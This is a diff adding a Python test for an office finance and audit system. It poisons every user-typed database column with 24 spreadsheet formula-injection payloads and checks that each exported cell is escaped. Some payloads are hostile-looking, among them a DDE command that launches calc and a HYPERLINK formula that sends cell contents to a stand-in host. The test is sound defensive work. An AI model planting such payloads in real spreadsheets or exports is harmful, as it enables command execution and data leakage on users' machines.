@@ -1,0 +1,85 @@
+"""No cell of any sheet that a spreadsheet would run: twenty-four payloads in every column that somebody can type."""
+
+from operations.books.sheets import SHEETS
+from tests.audit_templates import Audited, table_of
+from tests.cluster import Database
+from tests.people_builders import Office
+
+PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(A1)", "=@SUM(1)", "==1", "= 1", "=",
+    "+1", "+cmd|x", "+SUM(A1)", "+", "-1", "-2+3+cmd|x", "-", "--1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\t1",
+    "\r=1+1", "\n=1+1", "\n1",
+]  # fmt: skip
+TYPED = {
+    "decree_lines": ["decree_no", "component", "maker", "approver", "fund"],
+    "installments": ["component", "fund"],
+    "payments": ["component", "reference", "bank_reference", "retry_of", "maker", "checker",
+                 "approver", "second_approver", "releaser", "fund"],
+    "ledger": ["fund", "reference"],
+    "trial_balance": ["fund"],
+    "bank_fees": ["document_no", "maker", "decider"],
+    "purchases": ["item", "unit", "shop", "confirmer", "decider", "receipt_no", "fund"],
+    "outcomes": ["recorder"],
+    "people": [],
+    "attendance": ["training", "recorder"],
+    "duplicates": ["maker", "decider"],
+    "ranks": ["deciders"],
+    "objections": ["maker"],
+    "list_checks": [],
+    "check_rules": [],
+    "confirmations": ["companion"],
+    "papers": ["maker"],
+    "scans": ["maker"],
+    "custody": ["slip_no", "recorder"],
+    "service_days": ["place", "officer"],
+    "reconciliation": ["decree_no", "component", "fund"],
+    "receipts": ["receipt_no", "uploaded_by"],
+    "refunds": ["component", "fund"],
+    "companions": ["companion", "top_shop"],
+    "audit_log": ["actor"],
+    "published": ["figure", "unit", "source"],
+    "justifications": ["subject", "given_by"],
+}  # fmt: skip
+POISON = """
+UPDATE decree SET number = $1::text;
+UPDATE component SET code = left($1::text, 8) || right(id::text, 12);
+UPDATE user_account SET username = $1::text || right(id::text, 12);
+UPDATE payment SET reference = left($1::text, 28) || right(id::text, 12);
+UPDATE payment SET bank_reference = $1::text || right(id::text, 12), reason_code = $1::text;
+UPDATE payment_list SET second_approved_by = approved_by;
+UPDATE fund SET name = $1::text;
+UPDATE plan_item SET name = $1::text, unit = left($1::text, 20);
+UPDATE training SET title = $1::text;
+UPDATE bank_fee SET document_no = left($1::text, 28) || right(id::text, 12);
+UPDATE custody_event SET slip_no = left($1::text, 28) || right(id::text, 12);
+UPDATE service_day SET place = left($1::text, 60);
+UPDATE shopping_trip SET shop = $1::text, receipt_no = left($1::text, 40);
+UPDATE published_figure SET name = left($1::text, 40), unit = left($1::text, 20), source = $1::text;
+UPDATE purchase SET decided_by = confirmed_by
+"""
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+async def poison(database: Database, payload: str) -> None:
+    """By hand, with triggers off and the four-eyes rules lifted: only the text matters here."""
+    async with database.unfenced() as superuser:
+        await superuser.execute("ALTER TABLE payment_list DROP CONSTRAINT IF EXISTS list_four_eyes")
+        await superuser.execute("ALTER TABLE purchase DROP CONSTRAINT IF EXISTS purchase_decided_by_another")
+        for statement in POISON.split(";\n"):
+            given = [payload] if "$1" in statement else []
+            await superuser.execute(statement, *given)
+
+
+async def test_no_text_that_somebody_typed_is_a_formula(database: Database, office: Office, audited: Audited) -> None:
+    before = {name: await table_of(name, by=office.auditor) for name in SHEETS}
+
+    assert len(PAYLOADS) == 24
+    for payload in PAYLOADS:
+        await poison(database, payload)
+        for name in SHEETS:
+            table = await table_of(name, by=office.auditor)
+            assert [cell for line in table for cell in line.values() if cell.startswith(FORMULA)] == []
+            typed = {column: {line[column] for line in table} - {""} for column in TYPED[name]}
+            assert all(typed.values()), "the payload reaches every column that somebody can type"
+            assert all(cell.startswith("'" + payload[0]) for cells in typed.values() for cell in cells)
+            assert len(table) == len(before[name])
